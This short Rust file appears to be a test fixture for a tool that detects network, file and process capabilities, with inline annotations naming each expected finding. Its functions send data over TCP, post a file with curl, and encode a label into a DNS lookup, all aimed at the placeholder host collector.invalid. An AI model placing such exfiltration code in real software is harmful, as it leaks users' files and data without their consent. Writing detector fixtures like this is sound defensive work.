//! dependency: tokio = { version = "1.48.0", features = ["full"] }
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::process::Command;

pub async fn report(text: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect("collector.invalid:443").await?; //~ net.connect collector.invalid:443
    stream.write_all(text.as_bytes()).await?; //~ net.send
    Ok(())
}

pub async fn read() -> std::io::Result<String> {
    tokio::fs::read_to_string("/etc/hostname").await //~ file.read /etc/hostname
}

pub async fn run() -> std::io::Result<()> {
    Command::new("curl").args(["-d", "@x", "http://collector.invalid"]).kill_on_drop(true).status().await?; //~ process.spawn curl; net.send http://collector.invalid
    Ok(())
}

pub async fn ask(label: &str) -> std::io::Result<()> {
    tokio::net::lookup_host(format!("{label}.collector.invalid:80")).await?; //~ net.resolve {}.collector.invalid:80
    Ok(())
}
